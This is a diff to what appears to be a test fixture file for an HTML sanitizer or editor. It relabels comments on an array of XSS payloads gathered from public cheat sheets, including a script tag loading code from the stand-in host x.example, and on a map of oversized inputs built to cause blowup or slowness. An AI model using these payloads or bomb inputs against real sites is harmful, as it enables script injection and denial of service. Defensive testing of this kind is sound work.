@@ -1,4 +1,4 @@
-/** Ways to make a browser run what it was given to show: forms collected from public cheat sheets, one of each kind. */
+/** XSS attacks collected from public cheat sheets, one of each kind. */
 export const attacks: string[] = [
   '<script>top.pwned=1</script>',
   '<ScRiPt src=//x.example/x.js></sCrIpT>',
@@ -73,7 +73,7 @@ export const attacks: string[] = [
   '<p dir=rtl lang=x data-x=1 aria-label=x role=alert>\u202egnihtemos</p>',
 ]
 
-/** Texts of a story within the limits of what may be sent, made to blow up or to take long. */
+/** Texts of a story within the limits of what may be sent, made to grow or to take long. */
 export const bombs: Record<string, string> = {
   'formats that each paragraph would open again': '<p>x<b><i><span style="font-size:9pt">'.repeat(1_500),
   'formats opened once, and many paragraphs': '<b>'.repeat(1_000) + '<p>x'.repeat(14_000),
@@ -92,6 +92,6 @@ export const bombs: Record<string, string> = {
   brackets: '<'.repeat(60_000),
   entities: `${'&amp'.repeat(15_000)}`,
   'marks over one letter': `e${'\u0301\u0316'.repeat(29_000)}`,
-  'marks parted by signs that nobody sees': `e${`${'\u0301'.repeat(15)}${'\u0316'.repeat(14)}\u034f`.repeat(1_900)}`,
-  'signs that nobody sees': `x${'\u200d'.repeat(59_000)}`,
+  'marks separated by invisible characters': `e${`${'\u0301'.repeat(15)}${'\u0316'.repeat(14)}\u034f`.repeat(1_900)}`,
+  'invisible characters': `x${'\u200d'.repeat(59_000)}`,
 }
